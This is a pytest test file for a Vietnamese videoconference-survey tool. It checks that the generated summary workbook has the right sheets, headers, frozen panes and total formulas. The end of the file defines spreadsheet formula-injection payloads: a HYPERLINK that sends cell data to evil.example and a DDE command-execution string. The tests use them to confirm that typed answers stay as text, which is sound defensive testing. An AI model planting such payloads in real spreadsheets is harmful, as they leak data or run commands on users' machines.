"""The summary workbook: sheets, headers, frozen panes, formulas = data."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import tempfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from vcsurvey.consolidate import consolidate
from vcsurvey.forms import get_form
from vcsurvey.xlsx import SHEETS, summary_workbook

try:  # the fixture round lives with the consolidation tests
    from tests.test_consolidate import make_round
except ImportError:  # tests/ is not a package: pytest put it on sys.path
    from test_consolidate import make_round

META = {"number": 7, "notation": "BC-STTTT", "date": date(2018, 1, 15)}


@pytest.fixture(scope="module")
def summary() -> dict[str, Any]:
    return consolidate(make_round())


@pytest.fixture(scope="module")
def workbook(summary: dict[str, Any]) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(summary_workbook(summary, META)))


# A tiny evaluator for the few formulas the workbook uses, so that the tests
# check what a spreadsheet would show, not only the formula text.
_REF = r"(?:'((?:[^']|'')+)'!)?\$?([A-Z]+)\$?(\d+)"


def _cells(wb: openpyxl.Workbook, sheet: str, span: str) -> list[Any]:
    match = re.fullmatch(_REF + r":\$?([A-Z]+)\$?(\d+)", span)
    assert match, span
    name, c1, r1, c2, r2 = match.groups()
    ws = wb[name.replace("''", "'") if name else sheet]
    return [
        evaluate(wb, ws.title, cell.coordinate)
        for row in ws[f"{c1}{r1}:{c2}{r2}"]
        for cell in row
    ]


def evaluate(wb: openpyxl.Workbook, sheet: str, coordinate: str) -> Any:
    value = wb[sheet][coordinate].value
    if not (isinstance(value, str) and value.startswith("=")):
        return value
    formula = value[1:]
    if match := re.fullmatch(r"SUM\(([^)]+)\)", formula):
        return sum(v for v in _cells(wb, sheet, match[1]) if isinstance(v, int | float))
    if match := re.fullmatch(r'COUNTIF\(([^,]+),"([^"]*)"\)', formula):
        return sum(1 for v in _cells(wb, sheet, match[1]) if v == match[2])
    if match := re.fullmatch(r"COUNTBLANK\(([^)]+)\)", formula):
        return sum(1 for v in _cells(wb, sheet, match[1]) if v in (None, ""))
    if match := re.fullmatch(_REF, formula):
        name, column, row = match.groups()
        return evaluate(
            wb, name.replace("''", "'") if name else sheet, f"{column}{row}"
        )
    if formula == "IF(B4=0,0,B5/B4)":
        addressed = evaluate(wb, sheet, "B4")
        return 0 if addressed == 0 else evaluate(wb, sheet, "B5") / addressed
    raise AssertionError(f"formula not understood by the test: {value}")


def _row_of(ws: Any, column: str, text: str) -> int:
    for cell in ws[column]:
        if cell.value == text:
            return cell.row
    raise AssertionError(f"{text!r} not in column {column} of {ws.title}")


def test_sheet_names(workbook: openpyxl.Workbook) -> None:
    assert workbook.sheetnames == list(SHEETS)
    assert workbook.sheetnames[:7] == [
        "Tổng quan",
        "Phần I",
        "Phần II",
        "Trung tâm CNTT&TT",
        "Sự cố",
        "Nhu cầu",
        "Cán bộ vận hành",
    ]


def test_headers_are_vietnamese_bold_wrapped_filled(
    workbook: openpyxl.Workbook,
) -> None:
    ws = workbook["Phần I"]
    headers = [c.value for c in ws[2]]
    assert headers == [
        "STT",
        "Đơn vị",
        "Địa điểm lắp đặt điểm cầu",
        "Địa chỉ IP của điểm cầu",
        "Số cuộc họp trực tuyến",
        "Camera",
        "Bộ micro",
        "Âm thanh cuộc họp",
        "Thiết bị đầu cuối VCS",
        "Tình trạng chung",
        "Biết QĐ 1373/QĐ-UBND",
        "Phòng họp được nâng cấp",
    ]
    for cell in ws[2]:
        assert cell.font.b and cell.alignment.wrap_text
        assert cell.fill.fgColor.rgb.endswith("DDEBF7")
    assert ws.column_dimensions["B"].width >= 25
    assert [c.value for c in workbook["Sự cố"][2]][1:5] == [
        "Đơn vị",
        "Hệ thống",
        "Dấu hiệu sự cố",
        "Số lượng",
    ]


def test_frozen_header_rows(workbook: openpyxl.Workbook) -> None:
    for name in SHEETS:
        assert workbook[name].freeze_panes in ("A3", "C3"), name
    assert workbook["Phần I"].freeze_panes == "C3"  # header and unit column


def test_part1_rows_show_vietnamese_statuses(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Phần I"]
    units = [ws.cell(row=r, column=2).value for r in range(3, 7)]
    assert units == [
        "UBND huyện Bắc Mê",
        "UBND huyện Bắc Quang",
        "UBND huyện Đồng Văn",
        "UBND thành phố Hà Giang",
    ]
    dong_van = [c.value for c in ws[5]]
    assert dong_van[5:12] == [
        "Không ổn định",
        "Không hoạt động",
        "Không ổn định",
        "Ổn định",
        "Không ổn định",
        "Có",
        "Có",
    ]
    assert ws["I6"].value is None  # Hà Giang left the VCS status unanswered


def test_part1_total_formula_and_value(
    workbook: openpyxl.Workbook, summary: dict
) -> None:
    ws = workbook["Phần I"]
    row = _row_of(ws, "B", "Tổng cộng")
    assert row == 7
    assert ws[f"E{row}"].value == "=SUM(E3:E6)"
    assert sum(ws[f"E{r}"].value for r in range(3, 7)) == 185
    assert evaluate(workbook, "Phần I", f"E{row}") == summary["totals"]["meetings_i"]
    assert ws[f"K{row}"].value == '=COUNTIF(K3:K6,"Có")'
    assert evaluate(workbook, "Phần I", f"K{row}") == 3


def test_part2_totals(workbook: openpyxl.Workbook, summary: dict) -> None:
    ws = workbook["Phần II"]
    row = _row_of(ws, "B", "Tổng cộng")
    totals = summary["totals"]
    expected = {
        "C": ("=SUM(C3:C6)", totals["endpoints"], 54),
        "D": ("=SUM(D3:D6)", totals["communes"], 63),
        "E": ("=SUM(E3:E6)", totals["communes_without_endpoint"], 9),
        "G": ("=SUM(G3:G6)", totals["meetings_ii"], 62),
    }
    for column, (formula, total, number) in expected.items():
        assert ws[f"{column}{row}"].value == formula
        values = [ws[f"{column}{r}"].value for r in range(3, row)]
        assert sum(v or 0 for v in values) == total == number
        assert evaluate(workbook, "Phần II", f"{column}{row}") == number
    assert ws["F5"].value == "Chưa được đầu tư thiết bị"


def test_overview_figures_point_at_the_totals(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Tổng quan"]
    assert ws["B4"].value == 7 and ws["B5"].value == 5
    assert ws["B6"].value == 4 and ws["B7"].value == 1
    assert ws["B8"].value == 2 and ws["B9"].value == 1
    assert evaluate(workbook, "Tổng quan", "B10") == pytest.approx(5 / 7)
    assert ws["B10"].number_format == "0.0%"
    assert ws["B12"].value == "UBND huyện Mèo Vạc; UBND huyện Yên Minh"
    assert ws["A2"].value == "Kèm theo Báo cáo số 07/BC-STTTT ngày 15/01/2018"
    row = _row_of(ws, "A", "Số cuộc họp trực tuyến tỉnh - huyện (phần I)")
    assert ws[f"B{row}"].value == "='Phần I'!E7"
    expected = [185, 54, 63, 9, 62, 14, 120]
    got = [evaluate(workbook, "Tổng quan", f"B{r}") for r in range(row, row + 7)]
    assert got == expected


def test_overview_device_counts_equal_consolidation(
    workbook: openpyxl.Workbook, summary: dict
) -> None:
    ws = workbook["Tổng quan"]
    start = _row_of(ws, "A", "Phần I: hệ thống tỉnh - huyện")
    assert ws[f"B{start + 1}"].value == "=COUNTIF('Phần I'!F3:F6,\"Ổn định\")"
    for network, first in (
        ("province_district", start + 1),
        ("district_commune", start + 7),
    ):
        for offset, device in enumerate(("camera", "microphone", "audio", "vcs")):
            row = first + offset
            got = [evaluate(workbook, "Tổng quan", f"{c}{row}") for c in "BCDEF"]
            tally = summary["device_counts"][network][device]
            assert got == [
                tally["stable"],
                tally["unstable"],
                tally["not_working"],
                tally["unanswered"],
                4,
            ], (network, device)


def test_centre_sheet(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Trung tâm CNTT&TT"]
    assert ws["B3"].value == "Nguyễn Thị Thảo"
    assert ws["B4"].value == "0915123456"
    assert ws["B7"].value == 120
    assert ws["B11"].value == "=SUM(B8:B10)"
    assert evaluate(workbook, "Trung tâm CNTT&TT", "B11") == 120
    assert ws["B13"].value == "Trước 1 giờ so với giờ họp chính thức"
    assert ws["B14"].value == 15


def test_incidents_total(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Sự cố"]
    row = _row_of(ws, "B", "Tổng cộng")
    assert ws[f"E{row}"].value == f"=SUM(E3:E{row - 1})"
    assert evaluate(workbook, "Sự cố", f"E{row}") == 14
    assert ws["C3"].value == "MCU"
    assert ws["D7"].value == "Micro không hoạt động"


def test_needs_counts(workbook: openpyxl.Workbook, summary: dict) -> None:
    ws = workbook["Nhu cầu"]
    row = _row_of(ws, "B", "Số đơn vị có nhu cầu")
    counts = summary["need_counts"]
    got = [evaluate(workbook, "Nhu cầu", f"{c}{row}") for c in "CDEF"]
    assert (
        got
        == [
            counts["maintenance_i"],
            counts["maintenance_ii"],
            counts["training_i"],
            counts["training_ii"],
        ]
        == [1, 2, 1, 3]
    )
    assert ws["C4"].value == "Không" and ws["D4"].value == "Không"
    assert ws["C3"].value is None  # the centre does not answer I.7


def test_operators_keep_phone_as_text(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Cán bộ vận hành"]
    assert ws["A1"].value.endswith("năm 2018")
    assert ws["C3"].value == "Ma Văn Đức"
    assert ws["E3"].value == "0913111222"
    assert ws["E3"].number_format == "@"
    assert ws.max_row == 9  # header + 7 operators, no totals


def test_empty_round_has_no_broken_ranges() -> None:
    summary = consolidate({"year": 2017, "addressed": [], "submissions": []})
    wb = openpyxl.load_workbook(io.BytesIO(summary_workbook(summary)))
    assert wb["Phần I"]["E3"].value == 0
    assert wb["Trung tâm CNTT&TT"]["A3"].value == "Trung tâm CNTT&TT chưa gửi báo cáo"
    assert evaluate(wb, "Tổng quan", "B10") == 0


@pytest.mark.libreoffice
def test_libreoffice_computes_the_same_totals(summary: dict) -> None:
    """LibreOffice recalculates the workbook; cached values = the data."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    # Writer-only installs (libreoffice-writer-nogui) cannot open a workbook.
    if not (Path(os.path.realpath(soffice)).parent / "libsclo.so").exists():
        pytest.skip("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        (work / "in").mkdir()
        source = work / "in" / "summary.xlsx"
        source.write_bytes(summary_workbook(summary, META))
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={(work / 'profile').as_uri()}",
                "--headless",
                "--convert-to",
                "xlsx:Calc MS Excel 2007 XML",
                "--outdir",
                str(work / "out"),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        wb = openpyxl.load_workbook(work / "out" / "summary.xlsx", data_only=True)
    assert wb["Phần I"]["E7"].value == 185
    assert [wb["Phần II"][f"{c}7"].value for c in "CDEG"] == [54, 63, 9, 62]
    assert wb["Tổng quan"]["B10"].value == pytest.approx(5 / 7)
    start = _row_of(wb["Tổng quan"], "A", "Phần I: hệ thống tỉnh - huyện")
    # Microphones of part I: 2 stable, 1 unstable, 1 not working.
    assert [wb["Tổng quan"][f"{c}{start + 2}"].value for c in "BCDEF"] == [
        2,
        1,
        1,
        0,
        4,
    ]
    row = _row_of(wb["Sự cố"], "B", "Tổng cộng")
    assert wb["Sự cố"][f"E{row}"].value == 14


PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "@SUM(A1)",
)


def _poisoned_round() -> dict[str, Any]:
    """Every text answer of every reply replaced by a formula payload."""
    rnd = make_round()
    n = 0
    for sub in rnd["submissions"]:
        answers = sub["answers"]
        kinds = {q.code: q.kind for q in get_form(sub["form_type"]).questions()}
        for code, value in list(answers.items()):
            if kinds.get(code) in ("char", "text") and isinstance(value, str):
                answers[code] = PAYLOADS[n % len(PAYLOADS)]
                n += 1
            elif isinstance(value, list):
                for line in value:
                    for key in ("name", "position", "symptom", "cause", "fix"):
                        if line.get(key):
                            line[key] = PAYLOADS[n % len(PAYLOADS)]
                            n += 1
    return rnd


def _payload_cells(wb: openpyxl.Workbook) -> list[Any]:
    return [
        cell
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value in PAYLOADS
    ]


def test_typed_text_is_never_a_formula() -> None:
    """Answers such as "=HYPERLINK(...)", DDE payloads, "+1", "-2",
    "@SUM(A1)" are string cells in every sheet; only totals are formulas."""
    raw = summary_workbook(consolidate(_poisoned_round()), META)
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    cells = _payload_cells(wb)
    sheets = {cell.parent.title for cell in cells}
    assert {"Phần I", "Sự cố", "Cán bộ vận hành", "Kiến nghị"} <= sheets
    assert {cell.value for cell in cells} == set(PAYLOADS)
    assert all(cell.data_type == "s" for cell in cells)
    # the workbook's own totals are still formulas
    row = _row_of(wb["Sự cố"], "B", "Tổng cộng")
    assert wb["Sự cố"][f"E{row}"].data_type == "f"


def test_libreoffice_keeps_typed_text_as_text() -> None:
    """After LibreOffice recalculates, the payloads are still plain text."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    if not (Path(os.path.realpath(soffice)).parent / "libsclo.so").exists():
        pytest.skip("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        (work / "in").mkdir()
        source = work / "in" / "summary.xlsx"
        source.write_bytes(summary_workbook(consolidate(_poisoned_round()), META))
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={(work / 'profile').as_uri()}",
                "--headless",
                "--convert-to",
                "xlsx:Calc MS Excel 2007 XML",
                "--outdir",
                str(work / "out"),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        wb = openpyxl.load_workbook(work / "out" / "summary.xlsx", data_only=True)
    cells = _payload_cells(wb)
    assert {cell.value for cell in cells} == set(PAYLOADS)
    assert all(cell.data_type == "s" for cell in cells)


def test_characters_xml_cannot_carry_do_not_break_the_workbook() -> None:
    """A vertical tab or U+FFFE in an answer is dropped, not fatal."""
    rnd = make_round()
    for sub in rnd["submissions"]:
        for code, value in sub["answers"].items():
            if code.endswith(".location") and isinstance(value, str):
                sub["answers"][code] = value + "\x0b\ufffe!"
    wb = openpyxl.load_workbook(io.BytesIO(summary_workbook(consolidate(rnd), META)))
    texts = [c.value for r in wb["Phần I"].iter_rows() for c in r]
    assert any(isinstance(t, str) and t.endswith("!") for t in texts)
